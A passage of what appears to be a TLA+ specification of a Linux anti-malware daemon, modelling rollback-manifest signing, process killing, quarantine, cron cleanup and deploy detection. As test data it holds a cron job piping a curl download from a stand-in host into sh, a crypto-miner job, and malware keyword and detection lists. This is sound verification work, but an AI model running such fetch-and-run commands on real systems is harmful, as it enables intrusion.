       rank \in 0..Len(suspicious_processes), scan \in {<<>>, <<100, 40>>} :
        BeginAbuse(process, cpu_percent, duration, suspended, write_ok, rank, scan)

\* ------------------------------------------------------------ strings and JSON
\* A string is the sequence of its characters.  Besides single characters
\* there are atoms: a word that occurs only as a whole ("timestamp",
\* "RestoreFile", ...) and the hex digest of an HMAC.
Quote == "\""
Backslash == "\\"
Newline == "\n"

\* serde_json's string escaping, one character at a time.
EscapeChar(c) ==
    IF c = Quote THEN <<Backslash, Quote>>
    ELSE IF c = Backslash THEN <<Backslash, Backslash>>
    ELSE IF c = Newline THEN <<Backslash, "n">>
    ELSE <<c>>

RECURSIVE Escape(_)
Escape(str) == IF str = <<>> THEN <<>> ELSE EscapeChar(Head(str)) \o Escape(Tail(str))

JsonString(str) == <<Quote>> \o Escape(str) \o <<Quote>>

JsonKey(name) == <<Quote, name, Quote, ":">>

\* str::replace(from, to): every non-overlapping match, left to right.
Matches(text, from) ==
    {i \in 1..(Len(text) - Len(from) + 1) : SubSeq(text, i, i + Len(from) - 1) = from}

RECURSIVE Replace(_, _, _)
Replace(text, from, to) ==
    IF from = <<>> \/ Matches(text, from) = {} THEN text
    ELSE LET i == CHOOSE m \in Matches(text, from) : \A n \in Matches(text, from) : m <= n
         IN  SubSeq(text, 1, i - 1) \o to
             \o Replace(SubSeq(text, i + Len(from), Len(text)), from, to)

\* The text between two JSON tokens: nothing in the compact form, a line
\* break and the indentation in the pretty form.
Break(pretty, depth) ==
    IF pretty THEN <<Newline>> \o [k \in 1..depth |-> "  "] ELSE <<>>

Field(pretty, name) == JsonKey(name) \o (IF pretty THEN <<" ">> ELSE <<>>)

\* The Serialize impl of RollbackAction (tag = "type"), inside the array.
ActionJson(a, pretty) ==
    <<"{">> \o Break(pretty, 3) \o Field(pretty, "type") \o JsonString(<<a.type>>) \o
    (IF a.type = "RestoreFile"
     THEN <<",">> \o Break(pretty, 3) \o Field(pretty, "from") \o JsonString(a.from) \o
          <<",">> \o Break(pretty, 3) \o Field(pretty, "to") \o JsonString(a.to)
     ELSE IF a.type = "RestoreCron"
     THEN <<",">> \o Break(pretty, 3) \o Field(pretty, "user") \o JsonString(a.user) \o
          <<",">> \o Break(pretty, 3) \o Field(pretty, "content") \o JsonString(a.content) \o
          <<",">> \o Break(pretty, 3) \o Field(pretty, "file") \o JsonString(a.file)
     ELSE IF a.type = "RestartProcess"
     THEN <<",">> \o Break(pretty, 3) \o Field(pretty, "pid") \o <<ToString(a.pid)>> \o
          <<",">> \o Break(pretty, 3) \o Field(pretty, "command") \o JsonString(a.command)
     ELSE <<",">> \o Break(pretty, 3) \o Field(pretty, "path") \o JsonString(a.path))
    \o Break(pretty, 2) \o <<"}">>

RECURSIVE ActionsJson(_, _)
ActionsJson(actions, pretty) ==
    IF actions = <<>> THEN <<>>
    ELSE Break(pretty, 2) \o ActionJson(Head(actions), pretty)
         \o (IF Len(actions) > 1 THEN <<",">> ELSE Break(pretty, 1))
         \o ActionsJson(Tail(actions), pretty)

\* The Serialize impl of RollbackManifest.
ManifestJson(m, pretty) ==
    <<"{">> \o Break(pretty, 1) \o Field(pretty, "timestamp") \o JsonString(m.timestamp)
    \o <<",">> \o Break(pretty, 1) \o Field(pretty, "actions")
    \o <<"[">> \o ActionsJson(m.actions, pretty) \o <<"]">>
    \o <<",">> \o Break(pretty, 1) \o Field(pretty, "hmac_signature")
    \o JsonString(m.hmac_signature) \o Break(pretty, 0) \o <<"}">>

\* serde_json::to_string and serde_json::to_string_pretty
to_string(m) == ManifestJson(m, FALSE)

to_json(m) == ManifestJson(m, TRUE)

\* ---- serde_json::from_str::<RollbackManifest>
\* Positions in a text are 1..Len; position 0 is a failed parse.

RECURSIVE SkipWs(_, _)
SkipWs(text, i) ==
    IF i = 0 \/ i > Len(text) THEN i
    ELSE IF text[i] \in {Newline, " ", "  "} THEN SkipWs(text, i + 1) ELSE i

Expect(text, i, token) ==
    LET j == SkipWs(text, i)
    IN  IF j = 0 \/ j > Len(text) THEN 0
        ELSE IF text[j] = token THEN j + 1 ELSE 0

Failed == [next |-> 0, value |-> <<>>]

RECURSIVE ReadChars(_, _, _)
ReadChars(text, j, acc) ==
    IF j > Len(text) THEN Failed
    ELSE IF text[j] = Quote THEN [next |-> j + 1, value |-> acc]
    ELSE IF text[j] = Backslash
    THEN IF j + 1 > Len(text) THEN Failed
         ELSE IF text[j + 1] = "n" THEN ReadChars(text, j + 2, Append(acc, Newline))
         ELSE IF text[j + 1] \in {Quote, Backslash}
              THEN ReadChars(text, j + 2, Append(acc, text[j + 1]))
         ELSE Failed
    ELSE ReadChars(text, j + 1, Append(acc, text[j]))

\* Body at the value of v, with v worked out once.
With(v, Body(_)) == CHOOSE r \in {Body(x) : x \in {v}} : TRUE

ReadString(text, i) ==
    With(Expect(text, i, Quote),
         LAMBDA j : IF j = 0 THEN Failed ELSE ReadChars(text, j, <<>>))

\* "name": "value"
ReadField(text, i, name) ==
    With(ReadString(text, i),
         LAMBDA k : IF k.next = 0 \/ k.value # <<name>> THEN Failed
                    ELSE ReadString(text, Expect(text, k.next, ":")))

PidRange == {7}

\* "pid": <number>
ReadPid(text, i) ==
    With(ReadString(text, i), LAMBDA k :
    With(SkipWs(text, Expect(text, k.next, ":")), LAMBDA j :
        IF k.next = 0 \/ k.value # <<"pid">> \/ j = 0 \/ j > Len(text) THEN Failed
        ELSE IF \E n \in PidRange : ToString(n) = text[j]
             THEN [next |-> j + 1, value |-> CHOOSE n \in PidRange : ToString(n) = text[j]]
             ELSE Failed))

\* One element of the array: the tag, then the fields of the variant.
ReadAction(text, i) ==
    With(ReadField(text, Expect(text, i, "{"), "type"), LAMBDA type :
        IF type.value = <<"RestoreFile">>
        THEN With(ReadField(text, Expect(text, type.next, ","), "from"), LAMBDA from :
             With(ReadField(text, Expect(text, from.next, ","), "to"), LAMBDA to :
                 [next |-> Expect(text, to.next, "}"),
                  value |-> [type |-> "RestoreFile", from |-> from.value, to |-> to.value]]))
        ELSE IF type.value = <<"RestoreCron">>
        THEN With(ReadField(text, Expect(text, type.next, ","), "user"), LAMBDA user :
             With(ReadField(text, Expect(text, user.next, ","), "content"), LAMBDA content :
             With(ReadField(text, Expect(text, content.next, ","), "file"), LAMBDA file :
                 [next |-> Expect(text, file.next, "}"),
                  value |-> [type |-> "RestoreCron", user |-> user.value,
                             content |-> content.value, file |-> file.value]])))
        ELSE IF type.value = <<"RestartProcess">>
        THEN With(ReadPid(text, Expect(text, type.next, ",")), LAMBDA pid :
             With(ReadField(text, Expect(text, pid.next, ","), "command"), LAMBDA command :
                 [next |-> Expect(text, command.next, "}"),
                  value |-> [type |-> "RestartProcess", pid |-> pid.value,
                             command |-> command.value]]))
        ELSE IF type.value = <<"RestoreDirectory">>
        THEN With(ReadField(text, Expect(text, type.next, ","), "path"), LAMBDA path :
                 [next |-> Expect(text, path.next, "}"),
                  value |-> [type |-> "RestoreDirectory", path |-> path.value]])
        ELSE Failed)

\* The elements of the array, up to and including its closing bracket.
RECURSIVE ReadActions(_, _, _)
ReadActions(text, i, acc) ==
    IF Expect(text, i, "]") # 0 THEN [next |-> Expect(text, i, "]"), value |-> acc]
    ELSE With(ReadAction(text, i), LAMBDA a :
         With(Expect(text, a.next, ","), LAMBDA comma :
             IF a.next = 0 THEN Failed
             ELSE IF comma # 0 THEN ReadActions(text, comma, Append(acc, a.value))
             ELSE ReadActions(text, a.next, Append(acc, a.value))))

from_str(text) ==
    With(ReadField(text, Expect(text, 1, "{"), "timestamp"), LAMBDA ts :
    With(ReadString(text, Expect(text, ts.next, ",")), LAMBDA key :
    With(IF key.next = 0 \/ key.value # <<"actions">> THEN Failed
         ELSE ReadActions(text, Expect(text, Expect(text, key.next, ":"), "["), <<>>),
         LAMBDA acts :
    With(ReadField(text, Expect(text, acts.next, ","), "hmac_signature"), LAMBDA sig :
    With(Expect(text, sig.next, "}"), LAMBDA end :
        IF end = 0 \/ SkipWs(text, end) <= Len(text)
        THEN [ok |-> FALSE]
        ELSE [ok |-> TRUE,
              manifest |-> [timestamp |-> ts.value, actions |-> acts.value,
                            hmac_signature |-> sig.value]])))))

\* ------------------------------------------------------------ RollbackManifest
Keys == {"k1", "k2"}

\* HMAC-SHA256 in hex: one atom per (key, message), different for different
\* pairs; it holds no character that JSON escapes.
HmacHex(key, message) == <<ToString(<<key, message>>)>>

\* sign (lines 54-68): the signature field is blanked by a textual replacement
\* in the serialised manifest.
sign(m, key) ==
    With(to_string(m), LAMBDA json :
        LET json_without_sig ==
                Replace(json,
                        JsonKey("hmac_signature") \o <<Quote>> \o m.hmac_signature \o <<Quote>>,
                        JsonKey("hmac_signature") \o <<Quote, Quote>>)
        IN  [m EXCEPT !.hmac_signature = HmacHex(key, json_without_sig)])

\* verify (lines 71-86): the signature field is blanked in a clone.
verify(m, key) ==
    HmacHex(key, to_string([m EXCEPT !.hmac_signature = <<>>])) = m.hmac_signature

\* ---- the operations on a manifest
StrPlain == <<"a">>
StrEscapes == <<Backslash, "n", Newline, Quote>>
StrLikeField == <<Quote, "hmac_signature", Quote, ":", Quote, Quote>>

Timestamps == {<<"t1">>, <<"t2">>}

RollbackActions ==
    {[type |-> "RestoreFile", from |-> StrPlain, to |-> StrEscapes],
     [type |-> "RestoreCron", user |-> StrPlain, content |-> StrLikeField, file |-> StrPlain],
     [type |-> "RestartProcess", pid |-> 7, command |-> StrEscapes],
     [type |-> "RestoreDirectory", path |-> StrPlain]}

\* What a hand other than sign can put in hmac_signature.

\* A path is a stem and an extension; Path::with_extension replaces the latter.
Stems == {"malware_xmrig", "cron_hora"}
ManifestPaths == {[stem |-> "malware_xmrig", ext |-> ""], [stem |-> "malware_xmrig", ext |-> "old"],
                  [stem |-> "cron_hora", ext |-> ""]}

with_extension(path, ext) == [path EXCEPT !.ext = ext]

NoFile == <<"(no file)">>

\* RollbackManifest::new (lines 41-47)
new(timestamp) == [timestamp |-> timestamp, actions |-> <<>>, hmac_signature |-> <<>>]

InitManifestVars ==
    /\ disk = [st \in Stems |-> NoFile]
    /\ scripts = {}
    /\ loaded = [ok |-> FALSE, stem |-> "malware_xmrig"]
    /\ verdict = [called |-> FALSE]
    /\ sealed = [signed |-> FALSE]
    /\ saved_as = [st \in Stems |-> [saved |-> FALSE]]
    /\ last_op = "new"
    /\ steps = 0

Step(op) ==
    /\ steps < MaxSteps
    /\ steps' = steps + 1
    /\ last_op' = op

\* add_action (lines 49-51)
AddAction(a) ==
    /\ Step("add_action")
    /\ Len(manifest.actions) < MaxActions
    /\ manifest' = [manifest EXCEPT !.actions = Append(@, a)]
    /\ UNCHANGED <<disk, scripts, loaded, verdict, sealed, saved_as>>

Sign(key) ==
    /\ Step("sign")
    /\ manifest' = sign(manifest, key)
    /\ sealed' = [signed |-> TRUE, manifest |-> manifest', key |-> key]
    /\ UNCHANGED <<disk, scripts, loaded, verdict, saved_as>>

Verify(key) ==
    /\ Step("verify")
    /\ verdict' = [called |-> TRUE, key |-> key, result |-> verify(manifest, key)]
    /\ UNCHANGED <<manifest, disk, scripts, loaded, sealed, saved_as>>

\* The fields are public: any of them can be assigned between two calls.
Modify ==
    /\ Step("modify")
    /\ \/ \E t \in Timestamps \ {manifest.timestamp} :
              manifest' = [manifest EXCEPT !.timestamp = t]
       \/ \E i \in 1..Len(manifest.actions) :
              \E a \in RollbackActions \ {manifest.actions[i]} :
                  manifest' = [manifest EXCEPT !.actions[i] = a]
       \/ /\ manifest.actions # <<>>
          /\ manifest' = [manifest EXCEPT !.actions = Tail(@)]
       \/ \E sig \in {<<>>, <<"dead">>, <<Quote>>} \ {manifest.hmac_signature} :
              manifest' = [manifest EXCEPT !.hmac_signature = sig]
    /\ UNCHANGED <<disk, scripts, loaded, verdict, sealed, saved_as>>

\* save (lines 178-203): the JSON file, then the shell script.
Save(path) ==
    /\ Step("save")
    /\ disk' = [disk EXCEPT ![with_extension(path, "json").stem] = to_json(manifest)]
    /\ scripts' = scripts \cup {with_extension(path, "sh").stem}
    /\ saved_as' = [saved_as EXCEPT ![path.stem] =
                       [saved |-> TRUE, manifest |-> manifest,
                        signed |-> sealed.signed /\ sealed.manifest = manifest,
                        key |-> IF sealed.signed THEN sealed.key ELSE "k1"]]
    /\ UNCHANGED <<manifest, loaded, verdict, sealed>>

\* load (lines 206-215)
Load(path) ==
    /\ Step("load")
    /\ LET st == with_extension(path, "json").stem
       IN  loaded' = IF disk[st] = NoFile
                     THEN [ok |-> FALSE, stem |-> st]
                     ELSE IF from_str(disk[st]).ok
                     THEN [ok |-> TRUE, stem |-> st,
                           manifest |-> from_str(disk[st]).manifest]
                     ELSE [ok |-> FALSE, stem |-> st]
    /\ UNCHANGED <<manifest, disk, scripts, verdict, sealed, saved_as>>

\* ------------------------------------------------------------ the file-scan step
\* One detected file goes through the body of the loop at daemon.rs 510-623:
\* kill_processes_using_file, the manifest and the origin cleanup, sign and
\* save, handle_malware, record_malware_file.

\* The detected file, its directory's possible other files, the quarantine
\* directory.  A file name is the sequence of its parts.
MalwarePath == ExeTmp
file_name(path) == <<path[Len(path)]>>


RECURSIVE PathString(_)
PathString(path) ==
    IF path = <<>> THEN <<>> ELSE <<"/", Head(path)>> \o PathString(Tail(path))

FileString(dir, name) == PathString(dir) \o <<"/">> \o name

\* The order in which a directory listing or a process list is walked.
RECURSIVE SeqOf(_)
SeqOf(S) ==
    IF S = {} THEN <<>> ELSE LET x == CHOOSE y \in S : TRUE IN <<x>> \o SeqOf(S \ {x})

Orders(S) ==
    {s \in [1..Cardinality(S) -> S] : \A i, j \in 1..Cardinality(S) : i # j => s[i] # s[j]}

\* What the detected file's directory can hold besides it.
DirListings ==
    {{file_name(MalwarePath)} \cup others :
        others \in SUBSET {<<"miner", ".sh">>, <<"notes", ".txt">>}}

\* ---- FileQuarantine (src/src/file_quarantine.rs)
suspicious_names ==
    {"solrz", "e386", "payload.so", "next", "miner", "xmrig", "ccminer", "cpuminer",
     "malware", "trojan", "virus"}

is_suspicious_file(name) == \E i \in DOMAIN name : name[i] \in suspicious_names

is_suspicious_directory(dir) ==
    /\ dir.files # {}
    /\ \A f \in dir.files : is_suspicious_file(f)

\* The process table the monitor reads.  references: the command line names
\* the file; has_file_open: a descriptor under /proc/<pid>/fd points to it.
Bystander ==
    [binary_path |-> ExeNode, ppid |-> 0, references |-> FALSE, has_file_open |-> FALSE,
     alive |-> TRUE]

\* Nothing uses the file; the file runs as pid 1 with a child that names it;
\* pid 1 is sshd holding the file open, with the file running as its child.
ProcessTables ==
    {[p \in Pids |-> Bystander],
     [p \in Pids |->
        IF p = 1 THEN [Bystander EXCEPT !.binary_path = MalwarePath]
        ELSE IF p = 2 THEN [Bystander EXCEPT !.ppid = 1, !.references = TRUE]
        ELSE Bystander],
     [p \in Pids |->
        IF p = 1 THEN [Bystander EXCEPT !.binary_path = ExeSshd, !.has_file_open = TRUE]
        ELSE IF p = 2 THEN [Bystander EXCEPT !.binary_path = MalwarePath, !.ppid = 1]
        ELSE Bystander]}

\* get_child_processes (process_monitor.rs 148-173): the descendants, from
\* those found so far.
RECURSIVE get_child_processes(_, _, _)
get_child_processes(procs, parent_pid, found) ==
    LET more == {p \in Pids : /\ procs[p].alive
                              /\ p # parent_pid
                              /\ procs[p].ppid \in found \cup {parent_pid}}
    IN  IF more = found THEN found ELSE get_child_processes(procs, parent_pid, more)

\* kill_processes_using_file, lines 116-137: the three ways a process matches.
pids_to_kill(procs) ==
    {p \in Pids : /\ procs[p].alive
                  /\ \/ procs[p].binary_path = MalwarePath
                     \/ procs[p].references
                     \/ procs[p].has_file_open}

Signal(procs, pid, sig) == [pid |-> pid, sig |-> sig, binary_path |-> procs[pid].binary_path]

\* Lines 142-196 for one matched pid: SIGTERM to the children, SIGKILL to
\* those still there, then the same for the pid itself.  A signal to a
\* process that is gone fails and is not counted.  stubborn: the processes
\* that outlive a SIGTERM.
KillTree(st, pid, stubborn) ==
    LET children == SeqOf(get_child_processes(st.procs, pid, {}))
        remaining == SelectSeq(children, LAMBDA c : c \in stubborn)
        term == [i \in 1..Len(children) |-> Signal(st.procs, children[i], "SIGTERM")]
        kill == [i \in 1..Len(remaining) |-> Signal(st.procs, remaining[i], "SIGKILL")]
        own == IF ~st.procs[pid].alive THEN <<>>
               ELSE IF pid \in stubborn
               THEN <<Signal(st.procs, pid, "SIGTERM"), Signal(st.procs, pid, "SIGKILL")>>
               ELSE <<Signal(st.procs, pid, "SIGTERM")>>
        gone == get_child_processes(st.procs, pid, {}) \cup {pid}
    IN  [procs |-> [p \in Pids |-> IF p \in gone THEN [st.procs[p] EXCEPT !.alive = FALSE]
                                   ELSE st.procs[p]],
         sigs |-> st.sigs \o term \o kill \o own]

\* Lines 140-198: the matched pids one after the other, from the process
\* table and the signals sent so far.
RECURSIVE kill_processes_using_file(_, _, _)
kill_processes_using_file(st, order, stubborn) ==
    IF order = <<>> THEN st
    ELSE kill_processes_using_file(KillTree(st, Head(order), stubborn), Tail(order), stubborn)

\* delete_malware_origin, lines 207-267: the directory and the related files.
delete_malware_origin(dir) ==
    IF is_suspicious_directory(dir)
    THEN [dir |-> [exists |-> FALSE, files |-> {}], deleted_files |-> SeqOf(dir.files)]
    ELSE LET related == {f \in dir.files : is_suspicious_file(f) /\ f # file_name(MalwarePath)}
         IN  [dir |-> [dir EXCEPT !.files = @ \ related], deleted_files |-> SeqOf(related)]

\* ---- cron files
\* A cron file is its lines and whether the last one ends in a newline.  The
\* lines that occur: one that runs the detected file, one that pipes a
\* download into a shell, an ordinary job, an empty line, a line of spaces.
JobMiner == "* * * * * root /tmp/xmrig"
JobFetch == "@reboot root curl -s http://x/y | sh"
JobBackup == "0 3 * * * root /usr/local/bin/backup"
Blank == ""
Spaces == "   "

\* str::contains on the lines and contents that occur: a line holds itself
\* and, for the job that runs the detected file, the file's path.
contains(line, content) ==
    line = content \/ (line = JobMiner /\ content = "/tmp/xmrig")

\* line.trim().is_empty()
trim_is_empty(line) == line \in {Blank, Spaces}

NoCron == [lines |-> <<"(no cron file)">>, newline_at_end |-> FALSE]

CronFiles ==
    {[lines |-> <<JobBackup>>, newline_at_end |-> TRUE],
     [lines |-> <<JobMiner>>, newline_at_end |-> FALSE],
     [lines |-> <<JobBackup, Blank, JobMiner>>, newline_at_end |-> TRUE],
     [lines |-> <<JobFetch, JobBackup>>, newline_at_end |-> TRUE],
     [lines |-> <<Spaces, JobMiner, JobBackup>>, newline_at_end |-> TRUE]}


RECURSIVE JoinLines(_)
JoinLines(lines) ==
    IF lines = <<>> THEN <<>>
    ELSE IF Len(lines) = 1 THEN <<Head(lines)>>
    ELSE <<Head(lines), Newline>> \o JoinLines(Tail(lines))

read_to_string(cron) ==
    JoinLines(cron.lines) \o (IF cron.newline_at_end THEN <<Newline>> ELSE <<>>)

\* remove_cron_entry, lines 382-405: a line goes if it contains the content
\* passed, here the whole file, or is blank; the rest is written back joined
\* by newlines, and an empty rest removes the file.
remove_cron_entry(cron, content) ==
    LET Stays(line) == /\ ~(Len(content.lines) = 1 /\ ~content.newline_at_end
                             /\ content.lines[1] = line)
                       /\ ~trim_is_empty(line)
        lines == SelectSeq(cron.lines, Stays)
    IN  IF lines = <<>> THEN NoCron ELSE [lines |-> lines, newline_at_end |-> FALSE]

\* clean_cron_jobs_referencing, lines 343-363: the job's content is the whole
\* file; it is removed if it names the file's path or name, or holds wget,
\* curl, base64 or eval.
clean_cron_jobs_referencing(cron) ==
    LET should_remove == \E i \in DOMAIN cron.lines : cron.lines[i] \in {JobMiner, JobFetch}
    IN  IF cron # NoCron /\ should_remove THEN remove_cron_entry(cron, cron) ELSE cron

\* ---- the locals of the step, the rows of malware_files
RollbackKey == "k1"

InitScanVars ==
    /\ quarantine_dir = {}
    /\ cron_dir = {}
    /\ malware_files = <<>>
    /\ scan_local = [result |-> "none"]

\* What the other specifications leave alone: the default configuration
\* (config.rs 90-93), nothing detected.
ScanAtRest ==
    /\ InitScanVars
    /\ file_scanning = [kill_processes_using_file |-> TRUE, aggressive_cleanup |-> TRUE,
                        auto_delete |-> FALSE]
    /\ processes = [p \in Pids |-> Bystander]
    /\ parent_dir = [exists |-> TRUE, files |-> {file_name(MalwarePath)}]
    /\ cron_file = NoCron
    /\ scan_pc = "end"

\* Lines 511-519.
KillUsers ==
    /\ scan_pc = "found"
    /\ scan_pc' = "cleanup"
    /\ IF file_scanning.kill_processes_using_file
       THEN \E order \in Orders(pids_to_kill(processes)), stubborn \in SUBSET Pids :
                LET killed == kill_processes_using_file([procs |-> processes, sigs |-> <<>>],
                                                        order, stubborn)
                IN  /\ processes' = killed.procs
                    /\ signals' = signals \o killed.sigs
       ELSE UNCHANGED <<processes, signals>>
    /\ UNCHANGED <<supervisor_stops, file_scanning, parent_dir, quarantine_dir, cron_file,
                   cron_dir, malware_files, scan_local, manifestVars>>

RestoreFile(name, to) ==
    [type |-> "RestoreFile",
     from |-> FileString(<<"var", "lib", "hora-police", "quarantine">>, name), to |-> to]

\* Lines 521-565: the manifest, then the origin cleanup and its entries.
OriginCleanup ==
    /\ scan_pc = "cleanup"
    /\ scan_pc' = "persist"
    /\ LET rollback_manifest ==
               [new(<<"t1">>) EXCEPT !.actions =
                   <<RestoreFile(file_name(MalwarePath), PathString(MalwarePath))>>]
           result == delete_malware_origin(parent_dir)
       IN  IF file_scanning.aggressive_cleanup /\ ~config.dry_run
           THEN /\ parent_dir' = result.dir
                /\ cron_file' = clean_cron_jobs_referencing(cron_file)
                /\ manifest' =
                       [rollback_manifest EXCEPT !.actions = @ \o
                           [i \in 1..Len(result.deleted_files) |->
                               RestoreFile(result.deleted_files[i],
                                           FileString(SubSeq(MalwarePath, 1, Len(MalwarePath) - 1),
                                                      result.deleted_files[i]))]]
           ELSE /\ manifest' = rollback_manifest
                /\ UNCHANGED <<parent_dir, cron_file>>
    /\ UNCHANGED <<hostVars, file_scanning, processes, quarantine_dir, cron_dir,
                   malware_files, scan_local, disk, scripts, loaded, verdict, sealed,
                   saved_as, last_op, steps>>

\* save (rollback.rs 178-203) from the two callers: it succeeds or writes nothing.
save(path, save_ok) ==
    IF save_ok
    THEN /\ disk' = [disk EXCEPT ![with_extension(path, "json").stem] = to_json(manifest')]
         /\ scripts' = scripts \cup {with_extension(path, "sh").stem}
    ELSE UNCHANGED <<disk, scripts>>

\* Lines 567-587: with a key, sign and save; either failing is only logged.
SignAndSave ==
    /\ scan_pc = "persist"
    /\ scan_pc' = "handle"
    /\ \E key_ok \in BOOLEAN, save_ok \in BOOLEAN :
           IF key_ok
           THEN /\ manifest' = sign(manifest, RollbackKey)
                /\ save([stem |-> "malware_xmrig", ext |-> "rollback"], save_ok)
           ELSE UNCHANGED <<manifest, disk, scripts>>
    /\ UNCHANGED <<hostVars, file_scanning, processes, parent_dir, quarantine_dir, cron_file,
                   cron_dir, malware_files, scan_local, loaded, verdict, sealed, saved_as,
                   last_op, steps>>

\* Lines 589-597 with handle_malware, delete_file and quarantine_file
\* (file_quarantine.rs 35-88).
HandleMalware ==
    /\ scan_pc = "handle"
    /\ LET name == file_name(MalwarePath)
       IN  IF file_scanning.auto_delete
           THEN /\ parent_dir' = [parent_dir EXCEPT !.files = @ \ {name}]
                /\ scan_local' = [result |-> "deleted"]
                /\ scan_pc' = "record"
                /\ UNCHANGED quarantine_dir
           ELSE IF ~(parent_dir.exists /\ name \in parent_dir.files)
           THEN /\ scan_local' = [result |-> "Err"]
                /\ scan_pc' = "end"
                /\ UNCHANGED <<parent_dir, quarantine_dir>>
           ELSE /\ parent_dir' = [parent_dir EXCEPT !.files = @ \ {name}]
                /\ quarantine_dir' = quarantine_dir \cup {<<"ts_">> \o name}
                /\ scan_local' = [result |-> "quarantined"]
                /\ scan_pc' = "record"
    /\ UNCHANGED <<hostVars, file_scanning, processes, cron_file, cron_dir, malware_files,
                   manifestVars>>

\* Lines 599-623.
RecordMalware ==
    /\ scan_pc = "record"
    /\ scan_pc' = "end"
    /\ \E db_ok \in BOOLEAN :
           malware_files' =
               IF db_ok
               THEN Append(malware_files, [file_path |-> PathString(MalwarePath),
                                           action_taken |-> scan_local.result])
               ELSE malware_files
    /\ UNCHANGED <<hostVars, file_scanning, processes, parent_dir, quarantine_dir, cron_file,
                   cron_dir, scan_local, manifestVars>>

\* ---- CronWatcher.remove_cron_safely (src/src/cron_watcher.rs 175-258)

RestoreCron(cron) ==
    [type |-> "RestoreCron", user |-> <<"root">>, content |-> read_to_string(cron),
     file |-> PathString(<<"etc", "cron.d", "hora">>)]

\* Lines 186-218: read, return if the content is absent, copy the backup,
\* build and sign the manifest, return on dry_run.
CronBackup ==
    /\ scan_pc = "cron"
    /\ \E malicious_content \in {JobMiner, JobFetch, "/tmp/xmrig"}, key_ok \in BOOLEAN :
           IF cron_file = NoCron
           THEN /\ scan_local' = [result |-> "Err"]
                /\ scan_pc' = "end"
                /\ UNCHANGED <<cron_dir, manifest>>
           ELSE IF ~\E i \in DOMAIN cron_file.lines :
                        contains(cron_file.lines[i], malicious_content)
           THEN /\ scan_local' = [result |-> "Ok(None)"]
                /\ scan_pc' = "end"
                /\ UNCHANGED <<cron_dir, manifest>>
           ELSE /\ cron_dir' = cron_dir \cup {[name |-> "backup",
                                                content |-> read_to_string(cron_file)]}
                /\ LET m == [new(<<"t1">>) EXCEPT !.actions = <<RestoreCron(cron_file)>>]
                   IN  manifest' = IF key_ok THEN sign(m, RollbackKey) ELSE m
                /\ scan_local' = [result |-> "Ok(Some)", malicious_content |-> malicious_content,
                                  current_content |-> cron_file]
                /\ scan_pc' = IF config.dry_run THEN "end" ELSE "cron_replace"
    /\ UNCHANGED <<hostVars, file_scanning, processes, parent_dir, quarantine_dir, cron_file,
                   malware_files, disk, scripts, loaded, verdict, sealed, saved_as, last_op,
                   steps>>

\* The marker written when no line stays (line 231; its timestamp left out).
CleanedMarker == "# Cron file cleaned by Hora-Police"

\* CronReplace leaving an empty file when no line stays.
CronReplaceWithoutMarker ==
    /\ scan_pc = "cron_replace"
    /\ scan_pc' = "cron_save"
    /\ LET Stays(line) == ~contains(line, scan_local.malicious_content) /\ ~trim_is_empty(line)
       IN  cron_file' = [lines |-> SelectSeq(cron_file.lines, Stays), newline_at_end |-> TRUE]
    /\ UNCHANGED <<hostVars, file_scanning, processes, parent_dir, quarantine_dir, cron_dir,
                   malware_files, scan_local, manifestVars>>

\* Lines 220-241: the filtered lines go to <cron_file>.tmp, which is renamed
\* onto the cron file.
CronReplace ==
    /\ scan_pc = "cron_replace"
    /\ scan_pc' = "cron_save"
    /\ LET Stays(line) == ~contains(line, scan_local.malicious_content) /\ ~trim_is_empty(line)
           lines == SelectSeq(cron_file.lines, Stays)
       IN  cron_file' = [lines |-> IF lines = <<>> THEN <<CleanedMarker>> ELSE lines,
                         newline_at_end |-> TRUE]
    /\ UNCHANGED <<hostVars, file_scanning, processes, parent_dir, quarantine_dir, cron_dir,
                   malware_files, scan_local, manifestVars>>

\* Lines 243-257: the manifest is saved last.
CronSave ==
    /\ scan_pc = "cron_save"
    /\ scan_pc' = "end"
    /\ \E save_ok \in BOOLEAN :
           /\ UNCHANGED manifest
           /\ save([stem |-> "cron_hora", ext |-> "rollback"], save_ok)
           /\ scan_local' = [scan_local EXCEPT !.result = IF save_ok THEN "Ok(Some)" ELSE "Err"]
    /\ UNCHANGED <<hostVars, file_scanning, processes, parent_dir, quarantine_dir, cron_file,
                   cron_dir, malware_files, loaded, verdict, sealed, saved_as, last_op, steps>>

\* ------------------------------------------------------------ DeployDetector
\* Times are whole minutes here, as chrono's num_minutes() gives them.
\* deploy_grace_minutes is configured; one minute keeps the clock short.
grace_period_minutes == 1

\* An application directory, the directory of its package binaries, one of the
\* binaries and a script of the application.
AppDir == <<"srv", "app">>
BinDir == <<"srv", "app", "node_modules", ".bin">>
ExeNext == <<"srv", "app", "node_modules", ".bin", "next">>
AppScript == <<"srv", "app", "server.js">>
DeployDirs == {AppDir, BinDir}

DeployProcesses ==
    {[pid |-> p, ppid |-> pp, binary_path |-> ExeNext, command_line |-> {"node", "next"}] :
        p \in Pids, pp \in {1, 2}}

\* The deploy evidence on the host: what it is, the directory it is in (for a
\* running install or build command: the directory its command line names) and
\* the minute it was last modified.
NoEvidence == [kind |-> "none"]

parent_of(path) == SubSeq(path, 1, Len(path) - 1)

\* extract_working_directory: `arg` is the first part of the command line that
\* starts with '/' and exists, <<>> if there is none.
extract_working_directory(process, arg) ==
    IF arg # <<>> THEN parent_of(arg)
    ELSE IF process.binary_path # <<>> THEN parent_of(process.binary_path)
    ELSE <<>>

within_grace(at) == deploy.now - at < deploy.grace_period_minutes

\* check_git_activity: .git/HEAD or an entry of .git/refs/heads.
check_git_activity(path) ==
    /\ deploy.evidence.kind = "git"
    /\ deploy.evidence.dir = path
    /\ within_grace(deploy.evidence.at)

\* check_install_processes: the output of `ps aux` holds an install pattern
\* and, anywhere, the path; the detected process's own command line is in it.
check_install_processes(path, arg) ==
    /\ deploy.evidence.kind = "install"
    /\ IsPrefix(path, deploy.evidence.dir) \/ IsPrefix(path, arg)

\* check_npm_activity: a lock file, node_modules/.cache, or a running install.
check_npm_activity(path, arg) ==
    \/ /\ deploy.evidence.kind \in {"lock", "cache_dir"}
       /\ deploy.evidence.dir = path
       /\ within_grace(deploy.evidence.at)
    \/ check_install_processes(path, arg)

\* detect_recent_deploy, lines 72-77: the entry cached for the path.
cached_deploy(path) ==
    /\ deploy.recent_deploys[path] # -1
    /\ within_grace(deploy.recent_deploys[path])

detect_recent_deploy(path, arg) ==
    cached_deploy(path) \/ check_git_activity(path) \/ check_npm_activity(path, arg)

\* daemon.rs 261-309 with should_suspend_kill at line 269: the detection of a
\* process whose working directory is cwd.  A hit that does not come from the
\* cache is cached.
